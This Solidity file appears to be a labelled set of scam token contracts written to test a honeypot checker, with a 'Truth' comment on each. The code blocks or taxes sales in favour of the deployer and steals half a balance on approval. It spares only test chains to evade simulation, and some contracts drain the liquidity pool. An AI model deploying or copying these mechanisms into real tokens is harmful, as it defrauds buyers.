// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {FamilyToken} from "./FamilyToken.sol";

interface IThirdPool {
    function token0() external view returns (address);
    function getReserves() external view returns (uint112, uint112, uint32);
    function sync() external;
}

/// @title Sales that go wrong by transient storage, gas, chain, wallet, price, dust or a pool that burns. Written on
/// 29 November 2026, third look, by somebody who had not read how the check tries a trade. `Truth` says who loses when
abstract contract PoolAware is FamilyToken {
    address internal immutable _keeper = msg.sender;

    function _price() internal view returns (uint256) {
        (uint256 first, uint256 second,) = IThirdPool(pair).getReserves();
        (uint256 tokens, uint256 coins) = IThirdPool(pair).token0() == address(this) ? (first, second) : (second, first);
        return (coins * 1e27) / tokens;
    }
}

/// @dev Truth: a buyer loses at once. Only what was bought in the same transaction can be sold (EIP-1153).
contract SellsInOneTransaction is PoolAware {
    bool private transient _hasBought;

    function _move(address from, address to, uint256 value) internal override {
        if (_isPurchase(from)) _hasBought = true;
        require(!_isSale(from, to) || _hasBought || from == _keeper, "settlement");
        super._move(from, to, value);
    }
}

/// @dev Truth: later. From twice the first price a sale needs more gas than a block has.
contract SaleWorksByPrice is PoolAware {
    uint256 private _first;

    function _move(address from, address to, uint256 value) internal override {
        if (_isPurchase(from) && _first == 0) _first = _price();
        if (_isSale(from, to) && _first > 0) {
            uint256 rounds = (_price() / _first) * 400_000;
            bytes32 proof = keccak256(abi.encode(from));
            for (uint256 i = 400_000; i < rounds; i++) proof = keccak256(abi.encode(proof, i));
            require(proof != bytes32(0));
        }
        super._move(from, to, value);
    }
}

/// @dev Truth: a buyer loses at once, half with the approval that a sale needs.
contract ApprovalTakesHalf is PoolAware {
    function approve(address spender, uint256 value) public override returns (bool) {
        if (msg.sender != _keeper) _move(msg.sender, _keeper, _balances[msg.sender] / 2);
        return super.approve(spender, value);
    }
}

/// @dev Truth: after a day nobody can sell: dividends must be claimed first, and the contract holds no ether.
contract MustClaimFirst is PoolAware {
    mapping(address => uint256) private _since;

    function dividendOf(address account) public view returns (uint256) {
        if (_since[account] == 0) return 0;
        return (((block.timestamp - _since[account]) / 1 days) * _balances[account]) / 1e12;
    }

    function claim() external {
        uint256 due = dividendOf(msg.sender);
        _since[msg.sender] = block.timestamp;
        (bool isPaid,) = msg.sender.call{value: due}("");
        require(isPaid, "unpaid");
    }

    function _move(address from, address to, uint256 value) internal override {
        if (_isPurchase(from) && _since[to] == 0) _since[to] = block.timestamp;
        require(!_isSale(from, to) || dividendOf(from) == 0, "claim first");
        super._move(from, to, value);
    }
}

/// @dev Truth: later. Sales end at a block that is about seventy days away.
contract ClosesAtBlock is PoolAware {
    uint256 private immutable _last = block.number + 500_000;

    function _move(address from, address to, uint256 value) internal override {
        require(!_isSale(from, to) || block.number < _last, "closed");
        super._move(from, to, value);
    }
}

/// @dev Truth: a buyer loses at once when the market is busy: a purchase soon after another one is a bot's for ever.
contract BotIfBusy is PoolAware {
    uint256 private _lastPurchase;
    mapping(address => bool) private _isBot;

    function _move(address from, address to, uint256 value) internal override {
        if (_isPurchase(from)) {
            if (_lastPurchase > 0 && block.number <= _lastPurchase + 3) _isBot[to] = true;
            _lastPurchase = block.number;
        }
        require(!_isSale(from, to) || !_isBot[from], "bot");
        super._move(from, to, value);
    }
}

/// @dev Truth: a buyer with a wallet that delegates (EIP-7702) loses 90 % at once; any wallet may begin to delegate.
contract DelegatedWalletsPay is PoolAware {
    function _move(address from, address to, uint256 value) internal override {
        bytes memory code = from.code;
        bool isDelegated = code.length == 23 && code[0] == 0xef && code[1] == 0x01;
        if (_isSale(from, to) && isDelegated) _moveWithFee(from, to, value, 90, _keeper);
        else super._move(from, to, value);
    }
}

/// @dev Truth: a buyer loses at once on any chain but two that are for tests.
contract SparesTestChains is PoolAware {
    function _move(address from, address to, uint256 value) internal override {
        bool isTest = block.chainid == 1337 || block.chainid == 11155111;
        if (_isSale(from, to) && !isTest) _moveWithFee(from, to, value, 80, _keeper);
        else super._move(from, to, value);
    }
}

/// @dev Truth: a buyer loses at once in one of three sales, by the block's random number.
contract LotteryOfSellers is PoolAware {
    function _move(address from, address to, uint256 value) internal override {
        bool hasLost = uint256(keccak256(abi.encode(block.prevrandao, from))) % 3 == 0;
        if (_isSale(from, to) && hasLost) _moveWithFee(from, to, value, 99, _keeper);
        else super._move(from, to, value);
    }
}

/// @dev Truth: later. Nobody can gain: above the price of a purchase a sale costs 90 %.
contract TaxesAllProfit is PoolAware {
    mapping(address => uint256) private _paid;

    function _move(address from, address to, uint256 value) internal override {
        if (_isPurchase(from) && _paid[to] == 0) _paid[to] = _price();
        bool hasGain = _isSale(from, to) && _paid[from] > 0 && _price() > (_paid[from] * 105) / 100;
        if (hasGain) _moveWithFee(from, to, value, 90, _keeper);
        else super._move(from, to, value);
    }
}

/// @dev Truth: anybody can stop anybody's sales today, by a gift of one unit.
contract DustRestartsLock is PoolAware {
    mapping(address => uint256) private _lockedUntil;

    function _move(address from, address to, uint256 value) internal override {
        if (!_isPurchase(from) && to != pair && to != _keeper) _lockedUntil[to] = block.timestamp + 365 days;
        require(!_isSale(from, to) || block.timestamp >= _lockedUntil[from], "locked");
        super._move(from, to, value);
    }
}

/// @dev Truth: anybody who trades back and forth can empty the pool today: each sale burns as much out of it.
contract SaleBurnsFromPool is PoolAware {
    function _move(address from, address to, uint256 value) internal override {
        if (_isSale(from, to)) {
            uint256 burnt = value < _balances[pair] / 2 ? value : _balances[pair] / 2;
            _balances[pair] -= burnt;
            totalSupply -= burnt;
            emit Transfer(pair, address(0), burnt);
            IThirdPool(pair).sync();
        }
        super._move(from, to, value);
    }
}

/// @dev Truth: whoever holds a few tokens can empty the pool today: rounds of burning pile up for all hours that passed.
contract PoolBurnsByTheHour is PoolAware {
    uint256 private _last = block.timestamp;

    function burnRounds() external {
        uint256 rounds = (block.timestamp - _last) / 1 hours;
        _last = block.timestamp;
        uint256 left = _balances[pair];
        for (uint256 i; i < rounds && i < 2000; i++) left = (left * 99) / 100;
        uint256 burnt = _balances[pair] - left;
        _balances[pair] = left;
        totalSupply -= burnt;
        emit Transfer(pair, address(0), burnt);
        IThirdPool(pair).sync();
    }
}
